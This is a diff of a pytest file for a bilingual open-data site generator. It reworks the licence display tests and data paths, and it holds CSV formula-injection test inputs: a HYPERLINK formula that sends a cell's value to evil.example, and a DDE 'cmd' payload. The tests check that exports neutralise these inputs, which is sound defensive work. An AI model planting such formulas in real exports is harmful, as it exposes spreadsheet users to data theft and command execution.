@@ -12,13 +12,15 @@ import pytest
 import yaml
 from bs4 import BeautifulSoup
 
-from conftest import LANGUAGES, PAGE_PAIRS, ROOT, build
+from conftest import CONTENT, LANGUAGES, PAGE_PAIRS, ROOT, build
 from plan_ovt import opendata, rendering
 from plan_ovt.loading import DataError, load_data
 
-DATA = load_data(ROOT / "data", LANGUAGES)
+DATA = load_data(CONTENT / "data", LANGUAGES)
 PATHS = opendata.paths(DATA)
-PAGE = next(pair for pair in PAGE_PAIRS if pair[LANGUAGES[0]]["file"] == "donnees-ouvertes.md")
+# The page that lists the files (whatever its name): the one that calls open_data_files().
+PAGE = next(pair for pair in PAGE_PAIRS
+            if "open_data_files(" in (CONTENT / "docs" / LANGUAGES[0] / pair[LANGUAGES[0]]["file"]).read_text("utf-8"))
 
 
 def read_csv(site, kind):
@@ -175,38 +177,48 @@ def test_dates_are_written_year_month_day_as_the_page_says(site):
     assert all(re.fullmatch(r"\d{4}-\d{2}-\d{2}", day) for day in dates if day)
 
 
+NO_LICENCE = {"fr": "Aucune licence n’a encore été précisée", "en": "No licence has been specified"}
+
+
+def assert_licence_shown(article, licence, lang):
+    """The page names the licence and links its text, or says that none is set yet: as the data says."""
+    if licence:
+        assert article.find("a", href=licence["url"]).get_text() == opendata.plain(licence["name"])[lang]
+        assert NO_LICENCE[lang] not in article.get_text(" ")
+    else:
+        assert NO_LICENCE[lang] in article.get_text(" ")
+
+
 @pytest.mark.parametrize("lang", LANGUAGES)
-def test_page_says_no_licence_is_set_yet(site, lang):
-    text = page_soup(site, lang).find("article").get_text(" ")
-    assert {"fr": "Aucune licence n’a encore été précisée", "en": "No licence has been specified"}[lang] in text
+def test_page_says_what_the_data_says_of_the_licence(site, lang):
+    assert_licence_shown(page_soup(site, lang).find("article"), DATA["publication"]["licence"], lang)
 
 
-def test_a_licence_set_by_the_publisher_shows_on_the_page_and_in_the_json(project, tmp_path, monkeypatch):
+@pytest.mark.parametrize("licence", [None, {"name": {"fr": "Licence d’essai", "en": "Test licence"},
+                                            "url": "https://licence.example/"}], ids=["none-yet", "set"])
+def test_the_licence_the_publisher_sets_shows_on_the_page_and_in_the_json(project, tmp_path, monkeypatch, licence):
     path = project / "data/publication.yml"
-    text = path.read_text(encoding="utf-8")
-    assert "\nlicence:\n" in text
-    path.write_text(text.replace("\nlicence:\n", "\nlicence:\n  name:\n    fr: Licence d’essai\n"
-                                 "    en: Test licence\n  url: https://licence.example/\n"), encoding="utf-8")
+    publication = yaml.safe_load(path.read_text(encoding="utf-8"))
+    publication["licence"] = licence
+    path.write_text(yaml.safe_dump(publication, allow_unicode=True, sort_keys=False), encoding="utf-8")
     monkeypatch.setenv("PLAN_OVT_PDF", "0")
     result = build(project, tmp_path / "out")
     assert result.returncode == 0, result.stderr
     for lang in LANGUAGES:
-        article = page_soup(tmp_path / "out", lang).find("article")
-        link = article.find("a", href="https://licence.example/")
-        assert link.get_text() == {"fr": "Licence d’essai", "en": "Test licence"}[lang]
-        assert "Aucune licence" not in article.get_text() and "No licence" not in article.get_text()
+        assert_licence_shown(page_soup(tmp_path / "out", lang).find("article"), licence, lang)
     content = json.loads((tmp_path / "out" / PATHS["json"]).read_text(encoding="utf-8"))
-    assert content["licence"]["url"] == "https://licence.example/"
+    assert content["licence"] == licence
 
 
 def test_a_licence_without_a_web_address_is_refused(tmp_path):
     data = tmp_path / "data"
     data.mkdir()
-    for file in (ROOT / "data").glob("*.yml"):
+    for file in (CONTENT / "data").glob("*.yml"):
         (data / file.name).write_text(file.read_text(encoding="utf-8"), encoding="utf-8")
     publication = data / "publication.yml"
-    publication.write_text(publication.read_text(encoding="utf-8").replace(
-        "\nlicence:\n", "\nlicence:\n  name:\n    fr: L\n    en: L\n  url: http://licence.example/\n"), encoding="utf-8")
+    settings = yaml.safe_load(publication.read_text(encoding="utf-8"))
+    settings["licence"] = {"name": {"fr": "L", "en": "L"}, "url": "http://licence.example/"}
+    publication.write_text(yaml.safe_dump(settings, allow_unicode=True, sort_keys=False), encoding="utf-8")
     with pytest.raises(DataError, match=r"publication\.yml:\d+: champ « licence\.url » : forme inattendue"):
         load_data(data, LANGUAGES)
 
@@ -220,7 +232,7 @@ FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Cliquez")', "+1+cmd|' /C ca
 
 def test_a_formula_written_in_the_data_is_plain_text_in_the_csv_and_exact_in_the_json(tmp_path):
     """What an editor (or the web editor) saves into data/: action texts, a sector's name, a city."""
-    data = Path(shutil.copytree(ROOT / "data", tmp_path / "data"))
+    data = Path(shutil.copytree(CONTENT / "data", tmp_path / "data"))
     plan = yaml.safe_load((data / "plan.yml").read_text(encoding="utf-8"))
     action = plan["sectors"][0]["actions"][0]
     action["text"] = {"fr": FORMULAS[0], "en": FORMULAS[1]}
